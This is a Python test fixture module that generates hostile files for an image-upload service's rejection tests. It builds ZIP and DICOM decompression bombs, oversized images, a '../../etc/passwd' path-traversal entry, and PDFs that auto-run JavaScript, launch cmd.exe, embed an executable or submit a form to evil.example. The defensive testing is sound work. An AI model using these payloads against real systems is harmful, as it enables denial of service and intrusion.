"""Files that were made to hurt whoever opens them, each small: `FILES` by name, each with words of the sentence that it must get."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
from PIL import Image
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import UID, ExplicitVRLittleEndian, RLELossless


def png(width: int, height: int, color: int = 2, rows: int | None = None) -> bytes:
    """A PNG of zeros: eight bits, `color` 0 gray, 2 RGB, 6 RGBA. `rows` fewer than it claims, if told."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = bytes(1 + width * {0: 1, 2: 3, 6: 4}[color])
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height if rows is None else rows)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg(side: int, **options: object) -> bytes:
    kept = io.BytesIO()
    Image.new("L", (side, side), 90).save(kept, "JPEG", **options)
    return kept.getvalue()


def tiff(tags: dict[int, tuple[int, int, int]], *, following: int = 0, data: bytes = b"") -> bytes:
    """A TIFF with one directory right after its head; a tag is (type, count, value)."""
    entries = b"".join(struct.pack("<HHII", tag, *tags[tag]) for tag in sorted(tags))
    return b"II*\x00" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", following) + data


def tiff_of_size(width: int, height: int, **more: int) -> bytes:
    packed = zlib.compress(bytes(1_000_000), 9)
    begins = 8 + 2 + 10 * 12 + 4
    tags = {256: (4, 1, width), 257: (4, 1, height), 258: (3, 1, 8), 259: (3, 1, 8), 262: (3, 1, 1)}
    tags |= {273: (4, 1, begins), 277: (3, 1, 1), 278: (4, 1, height), 279: (4, 1, len(packed)), 284: (3, 1, 1)}
    return tiff(tags, data=packed, **more)


def dicom(
    rows: int, columns: int, frames: int, pixels: bytes, syntax: str = ExplicitVRLittleEndian, bits: int = 16, **facts: object
) -> bytes:
    header = Dataset()
    header.file_meta = FileMetaDataset()
    header.file_meta.MediaStorageSOPClassUID = UID("1.2.840.10008.5.1.4.1.1.2")
    header.file_meta.MediaStorageSOPInstanceUID = UID("1.2.3.4")
    header.file_meta.TransferSyntaxUID = UID(syntax)
    header.SOPClassUID, header.SOPInstanceUID, header.Modality = "1.2.840.10008.5.1.4.1.1.2", "1.2.3.4", "CT"
    header.Rows, header.Columns, header.NumberOfFrames, header.SamplesPerPixel = rows, columns, frames, 1
    header.PhotometricInterpretation, header.PixelRepresentation = "MONOCHROME2", 0
    header.BitsAllocated = header.BitsStored = bits
    header.HighBit = bits - 1
    for name, value in facts.items():
        setattr(header, name, value)
    header.PixelData = pixels
    header["PixelData"].VR = "OB" if syntax != ExplicitVRLittleEndian else "OW"
    kept = io.BytesIO()
    header.save_as(kept, enforce_file_format=True)
    return kept.getvalue()


def deflated_bomb() -> bytes:
    """A deflated DICOM file that unfolds to four gigabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(16 * 1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)  # stands alone, so it can be repeated
    syntax = b"\x02\x00\x10\x00UI\x16\x001.2.840.10008.1.2.1.99"
    length = b"\x02\x00\x00\x00UL\x04\x00" + struct.pack("<I", len(syntax))
    return bytes(128) + b"DICM" + length + syntax + block * 256 + packer.flush()


def rle_bomb(side: int = 6_016, frames: int = 100) -> bytes:
    """A hundred frames of 36 megapixels in half a megabyte each."""
    run = b"\x81\x00" * (side * side // 128)
    frame = struct.pack("<16I", 1, 64, *[0] * 14) + run
    return dicom(side, side, frames, encapsulate([frame] * frames), RLELossless, bits=8)


def items_in_items(deep: int = 200) -> bytes:
    """A film in whose header a list holds a list, two hundred levels down."""
    nested = b""
    for _ in range(deep):
        begin = struct.pack("<HH2sHI", 0x0040, 0xA730, b"SQ", 0, 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
        nested = begin + nested + struct.pack("<HHIHHI", 0xFFFE, 0xE00D, 0, 0xFFFE, 0xE0DD, 0)
    plain = dicom(64, 64, 1, bytes(8192))
    place = plain.rindex(struct.pack("<HH2s", 0x7FE0, 0x10, b"OW"))
    return plain[:place] + nested + plain[place:]


def archive(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", compression) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return kept.getvalue()


def overlapping(copies: int = 2_000) -> bytes:
    """A ZIP whose directory names one entry of ten megabytes two thousand times."""
    one = archive({"slice.dcm": bytes(128) + b"DICM" + bytes(10_000_000)})
    directory = one.rindex(b"PK\x01\x02")
    end = one.rindex(b"PK\x05\x06")
    entry = one[directory:end]
    return (
        one[:directory] + entry * copies + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(entry) * copies, directory, 0)
    )


def zeros(copies: int = 60) -> bytes:
    """A ZIP of sixty entries of fifty megabytes; packed once, since each is the same."""
    one = archive({"00.dcm": bytes(50_000_000)})
    directory, end = one.rindex(b"PK\x01\x02"), one.rindex(b"PK\x05\x06")
    entry, entries, named = one[:directory], b"", b""
    for number in range(copies):
        name = f"{number:02}.dcm".encode()
        named += one[directory:end].replace(b"00.dcm", name)[:42] + struct.pack("<I", len(entries)) + name
        entries += entry.replace(b"00.dcm", name, 1)
    return entries + named + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(named), len(entries), 0)


def lying() -> bytes:
    """A ZIP whose slice claims a kilobyte and unfolds to a gigabyte."""
    whole = archive({"slice.dcm": dicom(64, 64, 1, bytes(8192)) + bytes(300 * 1024 * 1024)})
    size = struct.pack("<I", len(dicom(64, 64, 1, bytes(8192))) + 300 * 1024 * 1024)
    return whole.replace(size, struct.pack("<I", 1024))


def locked() -> bytes:
    plain = bytearray(archive({"slice.dcm": dicom(64, 64, 1, bytes(8192))}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        plain[plain.index(mark) + place] |= 1
    return bytes(plain)


def pdf(catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = (), content: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF by hand: additions to the catalog and the page, further objects from number 5 on, the page's content."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R" + page + b">>",
        b"<</Length " + str(len(content)).encode() + b">>stream\n" + content + b"\nendstream",
        *objects,
    ]
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(made))
        made += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    table = b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    end = f"trailer<</Size {len(bodies) + 1}/Root 1 0 R".encode() + trailer + f">>\nstartxref\n{len(made)}\n%%EOF\n".encode()
    return made + f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode() + table + end


def drawing_in_drawings(depth: int = 9, wide: int = 12) -> bytes:
    """A page whose drawing holds twelve drawings, each of which holds twelve, nine levels down: five billion lines in two kilobytes."""
    forms = []
    for level in range(depth):
        inside = b"<</XObject<</F " + str(6 + level).encode() + b" 0 R>>>>" if level < depth - 1 else b"<<>>"
        content = b"/F Do " * wide if level < depth - 1 else b"0 0 m 300 400 l S " * 50
        body = b"<</Type/XObject/Subtype/Form/BBox[0 0 300 400]/Resources" + inside + b"/Length " + str(len(content)).encode()
        forms.append(body + b">>stream\n" + content + b"\nendstream")
    return pdf(page=b"/Resources<</XObject<</F 5 0 R>>>>", objects=tuple(forms), content=b"/F Do")


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
SAMPLE = np.arange(64 * 64, dtype="<u2").tobytes()

FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty (0 bytes)"),
    "a PNG of 60,000 x 60,000": (lambda: png(60_000, 60_000, 0, rows=100), "60,000 x 60,000 pixels (3,600 megapixels)"),
    "a PNG that ends before its picture": (lambda: png(7_000, 7_000, 0)[:20_000], "damaged or was cut off"),
    "a TIFF of 60,000 x 60,000": (lambda: tiff_of_size(60_000, 60_000), "3,600 megapixels"),
    "a TIFF that ends before its picture": (lambda: tiff_of_size(7_000, 7_000), "TIFF picture is damaged"),
    "a TIFF whose pages lead in a circle": (lambda: tiff_of_size(64, 64, following=8), ""),
    "a TIFF of nonsense": (lambda: b"MM\x00*" + bytes(range(256)) * 40, "TIFF picture is damaged"),
    "a DICOM of trillions of pixels": (lambda: dicom(65_535, 65_535, 900, SAMPLE), "900 pictures of 65,535 x 65,535 pixels"),
    "a DICOM of as many frames as a number holds": (lambda: dicom(64, 64, 2_147_483_647, SAMPLE), "2,147,483,647 pictures"),
    "a DICOM that is cut off": (lambda: dicom(512, 512, 400, SAMPLE), "cut off"),
    "a DICOM with a broken frame": (
        lambda: dicom(64, 64, 3, encapsulate([b"\x01\x02\x03\x04" * 20] * 3), "1.2.840.10008.1.2.4.90"),
        "cannot be decoded",
    ),
    "a deflated DICOM of four gigabytes": (deflated_bomb, "unfolds to more than 200 MB"),
    "a ZIP of three gigabytes of zeros": (zeros, "unfolds to more than 600 MB"),
    "a ZIP that says less than it holds": (lying, ""),
    "a ZIP whose entries overlap": (overlapping, ""),
    "a ZIP in a ZIP": (lambda: archive({"inner.zip": archive({"a.dcm": SAMPLE})}), "holds no DICOM slices"),
    "a ZIP of a program": (lambda: archive({"../../etc/passwd": b"root", "run.exe": b"MZ"}), "holds no DICOM slices"),
    "a ZIP with a password": (locked, "locked with a password"),
    "a letter of an office program": (lambda: archive({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}), "save it as PDF"),
    "a ZIP of ten thousand files": (lambda: archive({f"{n}.dcm": b"" for n in range(10_000)}), "10,000 files"),
    "a PDF whose pages lead in a circle": (
        lambda: pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 1"),
        "",
    ),
    "a PDF that draws for ever": (drawing_in_drawings, ""),
    "a PDF without pages": (lambda: pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"), "Please save and send it again"),
}
"""Refused, each with these words. Where they are empty it may be refused in any words or be shown, as long as it costs no more than it may."""

LARGE: dict[str, Callable[[], bytes]] = {
    "a gray PNG of 64 megapixels": lambda: png(8_000, 8_000, 0),
    "a PNG of 60 megapixels with transparency": lambda: png(7_700, 7_700, 6),
    "a JPEG of 119 megapixels": lambda: jpeg(10_900),
    "a progressive JPEG of 119 megapixels": lambda: jpeg(10_900, progressive=True),
    "frames of 36 megapixels in half a megabyte": rle_bomb,
    "a DICOM of 60 megapixels": lambda: dicom(7_700, 7_700, 1, bytes(7_700 * 7_700 * 2)),
    "a DICOM just small enough to be copied": lambda: dicom(4_000, 4_000, 1, bytes(32_000_000)),
    "a DICOM with items in items": items_in_items,
}
"""At the edge of what is opened: shown, or refused in words, and in either case within the limits."""

ACTING: dict[str, Callable[[], bytes]] = {
    "a script when it is opened": lambda: pdf(b"/OpenAction" + SCRIPT),
    "a script by name": lambda: pdf(b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"),
    "a script of the page": lambda: pdf(page=b"/AA<</O" + SCRIPT + b">>"),
    "a script spelled otherwise": lambda: pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    "a program to start": lambda: pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "a button with a script": lambda: pdf(
        b"/AcroForm<</Fields[5 0 R]>>",
        b"/Annots[5 0 R]",
        (b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[10 10 90 40]/A" + SCRIPT + b">>",),
    ),
    "a link that sends a form": lambda: pdf(
        page=b"/Annots[5 0 R]",
        objects=(b"<</Type/Annot/Subtype/Link/Rect[0 0 300 400]/A<</S/SubmitForm/F(https://evil.example)>>>>",),
    ),
    "an attached file": lambda: pdf(
        b"/Names<</EmbeddedFiles<</Names[(x.exe) 5 0 R]>>>>",
        objects=(
            b"<</Type/Filespec/F(x.exe)/EF<</F 6 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
        ),
    ),
}
"""PDFs that would do something."""
